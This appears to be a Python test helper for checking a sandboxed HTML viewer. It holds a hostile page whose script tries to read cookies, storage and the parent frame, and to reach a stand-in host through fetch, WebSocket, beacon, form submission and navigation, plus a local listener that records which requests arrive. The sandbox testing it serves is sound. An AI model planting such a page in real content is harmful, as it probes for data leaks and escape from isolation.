"""A page that tries to reach all that it should not, and somebody who listens for it."""

from __future__ import annotations

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

_PAGE = """<!doctype html><title>hostile</title>
<link rel="stylesheet" href="EVIL/style"><link rel="prefetch" href="EVIL/prefetch">
<style>@import "EVIL/import.css"; h1 { background: url(EVIL/background) }</style>
<meta http-equiv="refresh" content="60;url=EVIL/refresh">
<h1>All well</h1><p role="status" id="told">no script has run</p>
<img src="EVIL/picture" alt=""><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
<video src="EVIL/video"></video><form id="form" action="EVIL/form" target="_top"></form>
<script src="EVIL/script"></script>
<script>
const found = {};
async function tried(name, doing) {
  try { found[name] = String(await doing()); } catch { found[name] = "refused"; }
}
const opened = (made) => new Promise((yes, no) => {
  made.onopen = () => yes("opened");
  made.onmessage = () => yes("answered");
  made.onerror = () => no(new Error());
});
(async () => {
  await tried("cookie", () => document.cookie);
  await tried("storage", () => localStorage.length);
  await tried("database", () => indexedDB.open("x").constructor.name);
  await tried("parent", () => (parent.document.title = "taken over"));
  await tried("top", () => { top.location = "EVIL/top"; });
  await tried("fetch", () => fetch("EVIL/fetch"));
  await tried("own", () => fetch("/apis/v2beta1/runs"));
  await tried("socket", () => opened(new WebSocket("EVIL/socket".replace("http", "ws"))));
  await tried("stream", () => opened(new EventSource("EVIL/stream")));
  await tried("import", () => import("EVIL/import.js"));
  await tried("worker", () => opened(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))));
  await tried("window", () => { if (window.open("EVIL/window") === null) throw new Error(); });
  navigator.sendBeacon("EVIL/beacon");
  form.submit();
  told.textContent = "done " + JSON.stringify(found);
  setTimeout(() => { location = "EVIL/itself"; }, 1500);
})();
</script>"""


def hostile_page(url: str) -> str:
    """Return the page; ``url`` is somebody else's."""
    return _PAGE.replace("EVIL", url)


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Listen on a port; give the URL, and the paths that are asked for there, a list that grows."""
    paths: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_arguments: object) -> None:
            """Say nothing."""

    server = HTTPServer(("127.0.0.1", 0), Answer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", paths
    server.shutdown()
    server.server_close()
    thread.join()
